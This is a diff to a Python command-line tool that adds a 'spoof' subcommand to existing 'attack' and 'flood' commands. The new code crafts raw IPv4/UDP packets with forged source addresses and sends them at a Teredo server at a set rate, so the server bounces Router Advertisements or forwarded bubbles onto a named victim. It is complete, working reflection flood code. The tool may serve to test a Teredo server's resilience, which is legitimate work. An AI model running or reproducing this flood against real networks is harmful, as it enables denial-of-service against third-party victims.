@@ -455,6 +455,51 @@ def cmd_flood(args):
     return 0
 
 
+# ---------------------------------------------------------------------------------------------- spoofed flood
+def cmd_spoof(args):
+    """A flood with forged IPv4 sources, aimed at a victim the server is to bounce to: "rs" sends Router
+    Solicitations from the victim's address (the server's RAs go to it), "bounce" sends bubbles from random
+    spoofed /24s whose Teredo source matches the forged mapping, to a Teredo address naming the victim (the
+    server forwards them to it). Prints "sent N in S s"."""
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    server = ipaddress.IPv4Address(args.server).packed
+    victim_teredo = teredo_address(args.server, args.victim, 5555)
+    rng = random.Random(7)
+    nets = [ipaddress.IPv4Network(n) for n in args.source_nets.split(",")]
+    # A pool of prepared datagrams (the flood reuses them; the server keeps no state that would notice).
+    pool = []
+    for i in range(512):
+        if args.kind == "rs":
+            src_ip, sport = args.victim, 1024 + rng.randrange(60000)
+            payload = auth_header(os.urandom(8)) + router_solicitation()
+        else:
+            net = nets[i % len(nets)]
+            src_ip = str(net.network_address + 1 + rng.randrange(net.num_addresses - 2))
+            sport = 1024 + rng.randrange(60000)
+            payload = bubble(teredo_address(args.server, src_ip, sport), victim_teredo)
+        udp = struct.pack("!HHHH", sport, TEREDO_PORT, 8 + len(payload), 0) + payload
+        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i, 0, 64, 17, 0,
+                          ipaddress.IPv4Address(src_ip).packed, server)
+        pool.append(hdr + udp)
+    dst = (args.server, 0)
+    total = int(args.rate * args.seconds)
+    sent = 0
+    t0 = time.monotonic()
+    while sent < total:
+        for _ in range(64):
+            try:
+                raw.sendto(pool[sent % len(pool)], dst)
+            except (BlockingIOError, OSError):
+                pass
+            sent += 1
+        ahead = t0 + sent / args.rate - time.monotonic()
+        if ahead > 0:
+            time.sleep(ahead)
+    print(f"sent {sent} in {time.monotonic() - t0:.1f} s", flush=True)
+    return 0
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     sub = p.add_subparsers(dest="cmd", required=True)
@@ -478,12 +523,20 @@ def main():
     f.add_argument("--count", type=int, default=200000)
     f.add_argument("--seconds", type=float, default=10.0)
     f.add_argument("--ports", type=int, default=256)
+    sp = sub.add_parser("spoof")
+    sp.add_argument("--server", required=True)
+    sp.add_argument("--victim", required=True)
+    sp.add_argument("--kind", choices=["rs", "bounce"], default="rs")
+    sp.add_argument("--source-nets", default="192.0.2.0/24,203.0.113.0/24",
+                    help="bounce: the /24s whose addresses the sources forge")
+    sp.add_argument("--rate", type=float, default=20000)
+    sp.add_argument("--seconds", type=float, default=5)
     args = p.parse_args()
     if args.cmd == "probe" and args.cone and not args.secondary:
         p.error("--cone needs --secondary")
     if args.cmd == "probe" and not (args.expect_origin or args.bind):
         p.error("probe needs --bind or --expect-origin")
-    return {"attack": cmd_attack, "probe": cmd_probe, "flood": cmd_flood}[args.cmd](args)
+    return {"attack": cmd_attack, "probe": cmd_probe, "flood": cmd_flood, "spoof": cmd_spoof}[args.cmd](args)
 
 
 if __name__ == "__main__":
